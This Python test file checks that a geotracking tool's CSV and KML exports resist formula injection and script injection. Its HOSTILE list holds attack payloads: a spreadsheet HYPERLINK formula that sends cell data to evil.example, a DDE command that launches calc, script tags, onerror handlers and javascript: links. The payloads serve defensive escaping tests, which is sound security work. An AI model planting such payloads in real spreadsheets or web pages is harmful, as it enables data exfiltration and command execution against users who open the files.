"""CSV (lat, lon, WKT), summary.csv and KML: golden files, formula injection, hostile text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import xml.etree.ElementTree as ET
from html.parser import HTMLParser
from pathlib import Path

import pytest
import shapely
from hypothesis import given, settings
from hypothesis import strategies as st
from render_builders import make_event, make_place, sample_events

from geotrack.model import DatePrecision
from geotrack.render.tables import (
    csv_safe,
    events_kml,
    summary_rows,
    write_events_csv,
    write_events_kml,
    write_summary_csv,
)

KML = "{http://www.opengis.net/kml/2.2}"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab first",
    "\rCR first",
    'He said "go", then left',
    "line one\nline two",
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "]]> </description><script>x</script>",
    "javascript:alert(3)",
]


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        text = fh.read()
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_summary_csv_matches_golden(tmp_path: Path, golden) -> None:
    path = write_summary_csv(sample_events(), tmp_path / "summary.csv")
    golden("render/summary.csv", path.read_text(encoding="utf-8"))


def test_kml_matches_golden(tmp_path: Path, golden) -> None:
    path = write_events_kml(sample_events(), tmp_path / "events.kml")
    golden("render/events.kml", path.read_text(encoding="utf-8"))


def test_events_csv_has_coordinates_wkt_and_iso_dates(tmp_path: Path) -> None:
    rows = _read_csv(write_events_csv(sample_events(), tmp_path / "events.csv"))
    assert len(rows) == len(sample_events())
    by_id = {r["event_id"]: r for r in rows}
    row = by_id["a2-e1"]
    assert float(row["lat"]) == pytest.approx(13.65805) and float(row["lon"]) == pytest.approx(
        102.56365
    )
    point = shapely.from_wkt(row["wkt"])
    assert (point.x, point.y) == pytest.approx((102.56365, 13.65805))
    assert row["date"] == "2025-03-02" and row["published"] == "2025-07-18"
    assert row["people_arrested"] == "215" and row["seized_cash_USD"] == "25000.5"
    unplaced = by_id["a12-e1"]
    assert unplaced["lat"] == unplaced["lon"] == unplaced["wkt"] == "" and unplaced["date"] == ""
    assert list(rows[0])[:3] == ["lat", "lon", "wkt"]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_cannot_become_formulas(tmp_path: Path, text: str) -> None:
    event = make_event(
        sentence=text, article_title=text, place=make_place(name=text), date_text=text
    )
    rows = _read_csv(write_events_csv([event], tmp_path / "e.csv"))
    (row,) = rows
    for key in ("sentence", "title", "place_name", "date_text"):
        cell = row[key]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), key
        assert cell.lstrip("'") == text, key  # nothing else lost, quotes and line breaks kept
    summary = _read_csv(
        write_summary_csv([make_event(place=make_place(admin1=text))], tmp_path / "s.csv")
    )
    assert not summary[0]["province"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_safe_keeps_numbers() -> None:
    assert csv_safe(-5) == -5 and csv_safe(-1.5) == -1.5
    assert csv_safe(None) == ""
    assert csv_safe("=1") == "'=1" and csv_safe("Poipet") == "Poipet"


@given(st.text(max_size=60))
@settings(max_examples=200, deadline=None)
def test_csv_safe_never_leaves_a_formula_prefix(text: str) -> None:
    safe = csv_safe(text)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert safe.lstrip("'") == text.replace("\x00", "").lstrip("'") or safe == "'" + text.replace(
        "\x00", ""
    )


def test_summary_counts() -> None:
    rows = summary_rows(sample_events())
    by_key = {(r["country"], r["province"], r["event_type"]): r for r in rows}
    assert by_key[("KH", "Preah Sihanouk", "raid")]["events"] == 1
    assert by_key[("KH", "Preah Sihanouk", "raid")]["people_detained"] == 312
    assert by_key[("MM", "Kayin State", "raid")]["people_detained"] == 1041
    assert by_key[("", "", "raid")]["events"] == 1  # the unplaced raid
    assert (
        by_key[("KH", "Phnom Penh", "deportation")]["people_deported"] == 180
    )  # province-level place
    total = rows[-1]
    assert total["country"] == "ALL" and total["events"] == len(sample_events())
    assert total["people_total"] == sum(max(e.people.values(), default=0) for e in sample_events())


def test_kml_structure_and_time_stamps() -> None:
    root = ET.fromstring(events_kml(sample_events()))
    placemarks = root.findall(f".//{KML}Placemark")
    assert len(placemarks) == len([e for e in sample_events() if e.place])
    folders = [f.find(f"{KML}name").text for f in root.iter(f"{KML}Folder")]
    assert folders[0] == "Raid" and "Compound report" in folders
    whens = {
        p.find(f".//{KML}Data[@name='event_id']/{KML}value").text: p.find(
            f"{KML}TimeStamp/{KML}when"
        ).text
        for p in placemarks
    }
    assert whens["a1-e1"] == "2025-07-14"
    assert whens["a4-e1"] == "2025-05"  # month precision
    assert whens["a9-e1"] == "2025"  # year precision
    coords = {
        p.find(f".//{KML}Data[@name='event_id']/{KML}value").text: p.find(
            f".//{KML}coordinates"
        ).text
        for p in placemarks
    }
    assert coords["a2-e1"] == "102.56365,13.65805"  # lon,lat


@pytest.mark.parametrize("text", [*HOSTILE, "bad \x01 control \x0b chars"])
def test_kml_escapes_hostile_text(text: str) -> None:
    event = make_event(
        sentence=text,
        article_title=text,
        place=make_place(name=text.strip() or "x"),
        article_url="javascript:alert(1)",
        date_precision=DatePrecision.DAY,
        date=dt.date(2025, 1, 2),
    )
    root = ET.fromstring(events_kml([event]))  # well-formed XML whatever the text
    placemark = root.find(f".//{KML}Placemark")
    assert placemark is not None
    tags = _TagCollector()
    tags.feed(placemark.find(f"{KML}description").text)
    assert {t for t, _ in tags.seen} <= {"b", "br", "i"}  # no <a>: the javascript: link was dropped
    assert all(not name.startswith("on") for _, attrs in tags.seen for name, _v in attrs)
    assert "<" not in placemark.find(f"{KML}name").text


def test_kml_links_only_http() -> None:
    placemark = ET.fromstring(
        events_kml([make_event(article_url="https://example.org/a?b=1&c=2")])
    ).find(f".//{KML}Placemark")
    tags = _TagCollector()
    tags.feed(placemark.find(f"{KML}description").text)
    links = [dict(attrs)["href"] for tag, attrs in tags.seen if tag == "a"]
    assert links == ["https://example.org/a?b=1&c=2"]


class _TagCollector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, attrs))


def test_lone_surrogates_in_csv_and_kml(tmp_path: Path) -> None:
    event = make_event(sentence="bad \udcff byte")
    rows = _read_csv(write_events_csv([event], tmp_path / "e.csv"))
    assert rows[0]["sentence"] == "bad \ufffd byte"
    ET.fromstring(write_events_kml([event], tmp_path / "e.kml").read_text("utf-8"))
